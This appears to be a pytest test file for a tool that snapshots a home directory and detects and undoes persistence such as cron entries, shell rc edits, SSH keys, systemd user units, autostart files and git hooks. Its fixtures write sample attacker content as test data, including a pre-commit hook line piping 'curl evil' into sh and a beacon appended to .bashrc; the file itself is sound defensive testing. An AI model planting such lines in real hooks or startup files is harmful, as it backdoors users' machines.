"""Persistence found against a start snapshot, reported, and undone exactly."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from watchkeeper.supervise import (
    PersistenceSnapshot,
    find_persistence,
    remove_persistence,
    take_snapshot,
)


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A HOME, a git work tree inside it, and a crontab spool."""
    home = tmp_path / "home"
    repo = home / "project"
    repo.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    spool = tmp_path / "cron"
    spool.mkdir()
    return home, repo, spool


def _snapshot(tree: tuple[Path, Path, Path]) -> PersistenceSnapshot:
    home, repo, spool = tree
    return take_snapshot(home=home, cwd=repo, user="alice", cron_spools=(str(spool),))


def test_nothing_changed_finds_nothing(tree: tuple[Path, Path, Path]) -> None:
    """A snapshot compared with an unchanged host has no findings."""
    assert find_persistence(_snapshot(tree)) == []


def test_each_category_is_found(tree: tuple[Path, Path, Path]) -> None:
    """Crontab, rc, authorized_keys, systemd unit, autostart and git hook additions are found."""
    home, repo, spool = tree
    snapshot = _snapshot(tree)
    (spool / "alice").write_text("* * * * * beacon\n")
    (home / ".zshrc").write_text("evil\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    units = home / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    (units / "agent.service").write_text("[Service]\nExecStart=/bin/true\n")
    (home / ".config" / "autostart").mkdir()
    (home / ".config" / "autostart" / "a.desktop").write_text("[Desktop Entry]\n")
    (repo / ".git" / "hooks" / "post-commit").write_text("#!/bin/sh\ncurl x\n")
    found = {f.category for f in find_persistence(snapshot)}
    assert found == {
        "crontab", "shell-rc", "authorized-keys", "systemd-user-unit", "autostart", "git-hook"
    }  # fmt: skip


def test_rc_edit_reports_added_lines_and_restores_exactly(tree: tuple[Path, Path, Path]) -> None:
    """Only the added line is reported; removal restores the file to its snapshot text."""
    home = tree[0]
    (home / ".bashrc").write_text("a\nb\n")
    snapshot = _snapshot(tree)
    (home / ".bashrc").write_text("a\nb\nnohup beacon &\n")
    (finding,) = find_persistence(snapshot)
    assert (finding.change, finding.lines) == ("modified", ("nohup beacon &",))
    (done,) = remove_persistence(snapshot, [finding])
    assert done.removed
    assert (home / ".bashrc").read_text() == "a\nb\n"


def test_added_files_are_deleted(tree: tuple[Path, Path, Path]) -> None:
    """An added unit file and a new crontab are deleted by removal."""
    home, _repo, spool = tree
    snapshot = _snapshot(tree)
    units = home / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    (units / "agent.service").write_text("[Service]\n")
    (spool / "alice").write_text("* * * * * beacon\n")
    done = remove_persistence(snapshot, find_persistence(snapshot))
    assert all(f.removed for f in done)
    assert not (units / "agent.service").exists()
    assert not (spool / "alice").exists()
    assert find_persistence(snapshot) == []


def test_modified_git_hook_is_restored(tree: tuple[Path, Path, Path]) -> None:
    """A hook that existed is put back to its earlier text, not deleted."""
    _home, repo, _spool = tree
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nmake lint\n")
    snapshot = _snapshot(tree)
    hook.write_text("#!/bin/sh\nmake lint\ncurl evil | sh\n")
    (finding,) = find_persistence(snapshot)
    assert finding.change == "modified"
    remove_persistence(snapshot, [finding])
    assert hook.read_text() == "#!/bin/sh\nmake lint\n"
